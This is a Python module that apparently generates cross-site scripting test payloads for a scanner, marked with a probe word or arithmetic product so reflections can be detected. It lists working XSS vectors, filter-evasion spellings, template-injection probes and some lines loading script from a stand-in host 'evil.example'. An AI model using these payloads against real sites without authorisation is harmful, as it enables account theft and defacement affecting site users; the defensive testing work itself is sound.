"""Cross-site scripting payloads: a few dozen shapes, each in several spellings.

Every payload carries the word `xssprobe` or the product 1213*1091 (= 1323383), so a
check can tell an injected tag, attribute or evaluated template from the page's own.
"""

from __future__ import annotations

import html

TEMPLATE_PRODUCT = "1323383"  # what {{ 1213*1091 }} would render if a template evaluated it

_SHAPES = [
    "<script>xssprobe()</script>",
    "<ScRiPt src=//evil.example/xssprobe.js></ScRiPt>",
    "<img src=x onerror=xssprobe()>",
    "<svg onload=xssprobe()>",
    "<svg><script>xssprobe()</script></svg>",
    "<iframe src=javascript:xssprobe()></iframe>",
    "<a href=javascript:xssprobe()>xssprobe</a>",
    '<a href="jav&#x09;ascript:xssprobe()">xssprobe</a>',
    "<body onload=xssprobe()>",
    "<details open ontoggle=xssprobe()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xssprobe()>",
    "<object data=data:text/html;base64,eHNzcHJvYmU=></object>",
    "<embed src=javascript:xssprobe()>",
    "<base href=//evil.example/xssprobe/>",
    '<meta http-equiv="refresh" content="0;url=javascript:xssprobe()">',
    "<form action=javascript:xssprobe()><button>xssprobe</button></form>",
    "<style>@import 'javascript:xssprobe()';</style>",
    '"><img src=x onerror=xssprobe()>',
    "'><svg onload=xssprobe()>",
    '" onmouseover="xssprobe()" x="',
    "' onfocus='xssprobe()' autofocus x='",
    "</script><script>xssprobe()</script>",
    "</title><script>xssprobe()</script>",
    "</textarea><script>xssprobe()</script>",
    "<!--<img src=x onerror=xssprobe()>-->",
    "<xssprobe onpointerenter=alert(1)>",
    "{{ 1213*1091 }} xssprobe",
    "${1213*1091} xssprobe",
    "{% raw %}{{ 1213*1091 }}{% endraw %} xssprobe",
    "\u202e<script>xssprobe()</script>",
    "＜script＞xssprobe()＜/script＞",
    "<scr<script>ipt>xssprobe()</scr</script>ipt>",
]

_URLS = [
    "javascript:xssprobe()",
    "JaVaScRiPt:xssprobe()",
    " javascript:xssprobe()",
    "java\tscript:xssprobe()",
    "&#106;avascript:xssprobe()",
    "data:text/html,<script>xssprobe()</script>",
    "vbscript:xssprobe()",
    "//evil.example/xssprobe",
]


def _spellings(shape: str) -> list[str]:
    return [shape, shape.upper().replace("XSSPROBE", "xssprobe"), html.escape(shape)]


def text_payloads() -> list[str]:
    """Payloads for text fields: every shape in three spellings (96)."""
    return [spelling for shape in _SHAPES for spelling in _spellings(shape)]


def url_payloads() -> list[str]:
    """Payloads for URL fields."""
    return list(_URLS)
